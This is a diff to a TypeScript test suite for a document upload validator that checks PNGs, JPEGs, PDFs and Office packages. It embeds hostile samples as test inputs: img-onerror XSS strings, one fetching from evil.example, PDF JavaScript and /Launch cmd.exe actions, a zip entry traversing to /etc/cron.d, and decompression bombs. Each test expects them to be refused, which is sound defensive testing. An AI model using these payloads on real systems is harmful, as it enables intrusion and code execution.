@@ -4,7 +4,8 @@
  */
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
-import { crc32, deflateSync } from 'node:zlib';
+import { deflateSync } from 'node:zlib';
+import { blackPng, compressedPdf, pngBombs, pngChunk, pngWithData, relationships, WORD_PACKAGE, zip } from '../../../../test/documents';
 import { checkDocument } from './checkDocument';
 
 const fixture = (name: string) => readFileSync(path.join(__dirname, '../../../../test/fixtures/documents', name));
@@ -18,75 +19,15 @@ const problemOf = async (name: string, buf: Buffer) => {
   return result.ok ? 'ok' : result.problem;
 };
 
-function pngChunk(type: string, data: Buffer): Buffer {
-  const head = Buffer.alloc(4);
-  head.writeUInt32BE(data.length);
-  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
-  const crc = Buffer.alloc(4);
-  crc.writeUInt32BE(crc32(body));
-  return Buffer.concat([head, body, crc]);
-}
-
 /** A PNG of the given size whose pixel data is `rows` (filter byte + RGB per row). */
-function png(width: number, height: number, rows: Buffer, extraChunks: Buffer[] = []): Buffer {
-  const ihdr = Buffer.alloc(13);
-  ihdr.writeUInt32BE(width, 0);
-  ihdr.writeUInt32BE(height, 4);
-  ihdr[8] = 8;
-  ihdr[9] = 2;
-  return Buffer.concat([
-    PNG.subarray(0, 8),
-    pngChunk('IHDR', ihdr),
-    ...extraChunks,
-    pngChunk('IDAT', deflateSync(rows)),
-    pngChunk('IEND', Buffer.alloc(0)),
-  ]);
-}
+const png = (width: number, height: number, rows: Buffer, extraChunks: Buffer[] = []) => pngWithData(width, height, deflateSync(rows), extraChunks);
 
-/** A zip of stored (uncompressed) entries, enough to make Office packages with or without a given part. */
-function zip(entries: Record<string, string>): Buffer {
-  const locals: Buffer[] = [];
-  const central: Buffer[] = [];
-  let offset = 0;
-  for (const [name, text] of Object.entries(entries)) {
-    const data = Buffer.from(text);
-    const fileName = Buffer.from(name);
-    const local = Buffer.alloc(30);
-    local.writeUInt32LE(0x04034b50, 0);
-    local.writeUInt16LE(20, 4);
-    local.writeUInt32LE(crc32(data), 14);
-    local.writeUInt32LE(data.length, 18);
-    local.writeUInt32LE(data.length, 22);
-    local.writeUInt16LE(fileName.length, 26);
-    const entry = Buffer.alloc(46);
-    entry.writeUInt32LE(0x02014b50, 0);
-    entry.writeUInt16LE(20, 4);
-    entry.writeUInt16LE(20, 6);
-    entry.writeUInt32LE(crc32(data), 16);
-    entry.writeUInt32LE(data.length, 20);
-    entry.writeUInt32LE(data.length, 24);
-    entry.writeUInt16LE(fileName.length, 28);
-    entry.writeUInt32LE(offset, 42);
-    locals.push(local, fileName, data);
-    central.push(entry, fileName);
-    offset += 30 + fileName.length + data.length;
-  }
-  const directory = Buffer.concat(central);
-  const end = Buffer.alloc(22);
-  end.writeUInt32LE(0x06054b50, 0);
-  end.writeUInt16LE(Object.keys(entries).length, 8);
-  end.writeUInt16LE(Object.keys(entries).length, 10);
-  end.writeUInt32LE(directory.length, 12);
-  end.writeUInt32LE(offset, 16);
-  return Buffer.concat([...locals, directory, end]);
+/** The chunk types of a PNG, in order. */
+function chunkTypes(buf: Buffer): string[] {
+  const types: string[] = [];
+  for (let offset = 8; offset < buf.length; offset += 12 + buf.readUInt32BE(offset)) types.push(buf.toString('latin1', offset + 4, offset + 8));
+  return types;
 }
-
-const WORD_PACKAGE = {
-  '[Content_Types].xml':
-    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
-  '_rels/.rels': '<?xml version="1.0"?><Relationships/>',
-  'word/document.xml': '<?xml version="1.0"?><w:document/>',
-};
 
 const pdfWith = (body: string) => {
   // The fixture with `body` as an extra object before the cross-reference table, offsets kept right.
@@ -110,7 +51,7 @@ describe('checkDocument accepts a whole document of each kind under its own name
     ['salary.xls', 'application/vnd.ms-excel'],
     ['statement.doc', 'application/msword'],
   ])('%s', async (name, mime) => {
-    expect(await checkDocument(name, fixture(name))).toEqual({ ok: true, ext: name.split('.')[1], mime });
+    expect(await checkDocument(name, fixture(name))).toEqual({ ok: true, ext: name.split('.')[1], mime, data: fixture(name), dropped: [] });
   });
 
   it('a JPEG named .jpeg, an interlaced-free PNG built here, a JPEG with camera data after EOI, and a PDF with an extra object', async () => {
@@ -138,7 +79,8 @@ describe('checkDocument refuses', () => {
     expect(await problemOf('a.png', wrongCrc)).toBe('damaged');
     expect(await problemOf('a.png', Buffer.concat([PNG, Buffer.from([0, 1, 2, 3])]))).toBe('damaged'); // after IEND
     expect(await problemOf('a.png', png(3, 2, rows))).toBe('damaged'); // data for 2x2, header says 3x2
-    expect(await problemOf('a.png', png(50_000, 2, rows))).toBe('damaged'); // no sane size
+    expect(await problemOf('a.png', png(3, 2, Buffer.alloc(100)))).toBe('damaged'); // more data than 3x2 needs
+    expect(await problemOf('a.png', png(2, 2, rows, [pngChunk('ABCD', Buffer.from('x'))]))).toBe('damaged'); // an unknown critical chunk
   });
 
   it('a JPEG that does not hold together ("damaged")', async () => {
@@ -185,5 +127,158 @@ describe('checkDocument refuses', () => {
     expect(await problemOf('a.docx', zip({ ...WORD_PACKAGE, '../../etc/cron.d/job': 'x' }))).toBe('unsafe');
     // The same package without those parts is a Word document.
     expect(await problemOf('a.docx', zip(WORD_PACKAGE))).toBe('ok');
+  });
+});
+
+describe('pictures are judged by the size their header declares, before anything is inflated', () => {
+  it('refuses a PNG over 40 megapixels from IHDR alone ("too_large"), whatever its data', async () => {
+    // Image data that is no zlib stream at all: had it been inflated, the answer would be "damaged".
+    expect(await problemOf('a.png', pngWithData(20_000, 20_000, Buffer.from('not zlib')))).toBe('too_large');
+    expect(await problemOf('a.png', pngWithData(7_000, 6_000, Buffer.from('not zlib')))).toBe('too_large'); // 42 Mpx
+    expect(await problemOf('a.png', pngWithData(16_385, 10, Buffer.from('not zlib')))).toBe('too_large'); // a side too long
+  });
+
+  it("stops a small PNG's huge data stream one byte past its declared size", async () => {
+    const { largeDeclared, hugeStream } = pngBombs();
+    const started = process.hrtime.bigint();
+    expect(await problemOf('bomb.png', hugeStream)).toBe('damaged');
+    expect(await problemOf('bomb.png', largeDeclared)).toBe('too_large');
+    // Inflating 300 MB takes seconds; stopping at 30 kB takes milliseconds.
+    expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(500);
+  }, 30_000);
+
+  it('takes a black 6,666 x 6,000 PNG (40 Mpx, its data inflated and counted, not kept)', async () => {
+    expect(await problemOf('scan.png', blackPng(6_666, 6_000))).toBe('ok');
+  }, 30_000);
+
+  it('refuses a JPEG whose frame header declares over 40 megapixels', async () => {
+    const big = Buffer.from(JPEG);
+    const sof = [0xc0, 0xc1, 0xc2].map((m) => big.indexOf(Buffer.from([0xff, m]))).find((i) => i > 0) ?? -1;
+    big.writeUInt16BE(6_000, sof + 5); // height
+    big.writeUInt16BE(8_000, sof + 7); // width: 48 Mpx
+    expect(await problemOf('a.jpg', big)).toBe('too_large');
+  });
+});
+
+describe('PNG chunks: only the ones of a still image are stored', () => {
+  const rows = Buffer.alloc(2 * (1 + 2 * 3));
+
+  it('drops text chunks, eXIf and private chunks from the stored file and keeps the known ones', async () => {
+    const withExtras = png(2, 2, rows, [
+      pngChunk('gAMA', Buffer.from([0, 0, 0xb1, 0x8f])),
+      pngChunk('tEXt', Buffer.from('Software\0Scanner 2.1')),
+      pngChunk('iTXt', Buffer.from('XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta/>')),
+      pngChunk('eXIf', Buffer.from('MM\0*')),
+      pngChunk('iDOT', Buffer.alloc(28)),
+    ]);
+    const result = await checkDocument('screen.png', withExtras);
+    expect(result).toMatchObject({ ok: true, ext: 'png', dropped: ['tEXt', 'iTXt', 'eXIf', 'iDOT'] });
+    expect(result.ok && chunkTypes(result.data)).toEqual(['IHDR', 'gAMA', 'IDAT', 'IEND']);
+    // What is stored is still a whole PNG.
+    expect(result.ok && (await problemOf('again.png', result.data))).toBe('ok');
+  });
+
+  it.each([
+    ['a tEXt chunk', 'tEXt', 'Comment\0<img src=x onerror=alert(document.domain)>'],
+    ['a zTXt chunk', 'zTXt', 'Comment\0\0<img src=x onerror=alert(1)>'],
+    ['a private chunk', 'prVt', '<img/src=x onerror=fetch(`//evil.example`)>'],
+  ])('refuses <img onerror> in %s, though that chunk would be dropped ("unsafe")', async (_label, type, text) => {
+    expect(await problemOf('a.png', png(2, 2, rows, [pngChunk(type, Buffer.from(text, 'latin1'))]))).toBe('unsafe');
+  });
+
+  it('refuses a JPEG with a segment no still image has ("damaged")', async () => {
+    const jpg0 = Buffer.from([0xff, 0xf0, 0x00, 0x06, 0x61, 0x62, 0x63, 0x64]);
+    expect(await problemOf('a.jpg', Buffer.concat([JPEG.subarray(0, 2), jpg0, JPEG.subarray(2)]))).toBe('damaged');
+  });
+});
+
+describe('PDFs are read object by object, object streams included', () => {
+  it('takes a PDF 1.7 with its objects in a compressed object stream, and one that opens at a page (/OpenAction [page /Fit])', async () => {
+    expect(await problemOf('inn.pdf', compressedPdf())).toBe('ok');
+    expect(await problemOf('inn.pdf', compressedPdf('/OpenAction [3 0 R /Fit] '))).toBe('ok');
+  });
+
+  it.each([
+    [
+      'JavaScript in the name tree, inside the object stream (pdfinfo -js prints it)',
+      compressedPdf('/Names << /JavaScript 4 0 R >> ', { 4: '<< /Names [(a) 5 0 R] >>', 5: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
+    ],
+    [
+      'the same with its names #-escaped',
+      compressedPdf('/Names << /J#61vaScript 4 0 R >> ', { 4: '<< /Names [(a) 5 0 R] >>', 5: '<< /S /J#61vaScript /J#53 (x) >>' }),
+    ],
+    ['an /OpenAction action', compressedPdf('/OpenAction 4 0 R ', { 4: '<< /S /GoTo /D [3 0 R /Fit] >>' })],
+    ['a /URI action', compressedPdf('', { 4: '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://evil.example) >> >>' })],
+    ['additional actions (/AA)', compressedPdf('/AA << /WC 4 0 R >> ', { 4: '<< /S /Named /N /Print >>' })],
+    ['a /Launch action', compressedPdf('/OpenAction [3 0 R /Fit] ', { 4: '<< /S /Launch /F (cmd.exe) >>' })],
+    ['an /EmbeddedFile', compressedPdf('', { 4: '<< /Type /EmbeddedFile /Length 0 >>' })],
+    [
+      'a file attachment annotation',
+      compressedPdf('', { 4: '<< /Type /Annot /Subtype /FileAttachment /FS 5 0 R >>', 5: '<< /Type /Filespec /F (a.exe) >>' }),
+    ],
+    ['an XFA form', compressedPdf('/AcroForm << /Fields [] /XFA 4 0 R >> ', { 4: '[(template) 5 0 R]', 5: '<< >>' })],
+    ['<img onerror> in a string', compressedPdf('', { 4: '<< /Title (<img src=x onerror=alert\\(1\\)>) >>' })],
+    ['<img onerror> in a hex string', compressedPdf('', { 4: `<< /Title <${Buffer.from('<img src=x onerror=alert(1)>').toString('hex')}> >>` })],
+  ])('refuses %s ("unsafe")', async (_label, pdf) => {
+    expect(await problemOf('a.pdf', pdf)).toBe('unsafe');
+  });
+
+  it('refuses <img onerror> written plainly in a PDF, and an encrypted PDF', async () => {
+    expect(await problemOf('a.pdf', pdfWith('(<img src=x onerror=alert(1)>)'))).toBe('unsafe');
+    const encrypted = pdfWith('<< /Filter /Standard /V 2 /R 3 >>').toString('latin1').replace('/Root', '/Encrypt 9 0 R /Root');
+    expect(await problemOf('a.pdf', Buffer.from(encrypted, 'latin1'))).toBe('encrypted');
+  });
+
+  it('refuses an object stream that inflates past its bound, before the parser inflates it', async () => {
+    const padding = `(${'x'.repeat(17 * 1024 * 1024)})`;
+    expect(await problemOf('a.pdf', compressedPdf('', { 4: padding }))).toBe('unsafe');
+  });
+});
+
+describe('Office packages are judged from their zip directory before they are unpacked', () => {
+  it('takes a package with deflated parts', async () => {
+    const deflated = Object.fromEntries(Object.entries(WORD_PACKAGE).map(([name, data]) => [name, { data, deflate: true }]));
+    expect(await problemOf('a.docx', zip(deflated))).toBe('ok');
+  });
+
+  it.each([
+    ['an entry that declares 4 GiB', { ...WORD_PACKAGE, 'word/media/image1.png': { data: 'x', deflate: true, declaredSize: 0xffffffff } }],
+    [
+      'an entry 1,000 times smaller packed than unpacked',
+      { ...WORD_PACKAGE, 'word/media/big.xml': { data: Buffer.alloc(8 * 1024 * 1024), deflate: true } },
+    ],
+    ['1,001 entries', { ...WORD_PACKAGE, ...Object.fromEntries(Array.from({ length: 1_001 }, (_, i) => [`word/p${i}.xml`, 'x'])) }],
+    ['macros (vbaProject.bin)', { ...WORD_PACKAGE, 'word/vbaProject.bin': 'macros' }],
+    [
+      'a part with a macro-enabled content type',
+      {
+        ...WORD_PACKAGE,
+        '[Content_Types].xml': WORD_PACKAGE['[Content_Types].xml']!.replace(
+          '<Override',
+          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override',
+        ),
+        'word/custom.bin': 'macros',
+      },
+    ],
+    ['an ActiveX control', { ...WORD_PACKAGE, 'word/activeX/activeX1.xml': '<ax/>' }],
+    ['an embedded OLE object', { ...WORD_PACKAGE, 'word/embeddings/oleObject1.bin': 'MZ' }],
+    ['an external relationship', { ...WORD_PACKAGE, 'word/_rels/document.xml.rels': relationships('External') }],
+    [
+      'an external relationship written with a character reference',
+      { ...WORD_PACKAGE, 'word/_rels/document.xml.rels': relationships('&#69;xternal') },
+    ],
+    ['an entry climbing out of its folder', { ...WORD_PACKAGE, '../../etc/cron.d/job': 'x' }],
+  ])('refuses %s ("unsafe")', async (_label, entries) => {
+    expect(await problemOf('a.docx', zip(entries))).toBe('unsafe');
+  });
+
+  it('refuses an entry that unpacks to more than it declares ("damaged")', async () => {
+    expect(
+      await problemOf('a.docx', zip({ ...WORD_PACKAGE, 'word/big.xml': { data: Buffer.alloc(512 * 1024), deflate: true, declaredSize: 100 } })),
+    ).toBe('damaged');
+  });
+
+  it('takes a relationship that says it is internal', async () => {
+    expect(await problemOf('a.docx', zip({ ...WORD_PACKAGE, 'word/_rels/document.xml.rels': relationships('Internal') }))).toBe('ok');
   });
 });
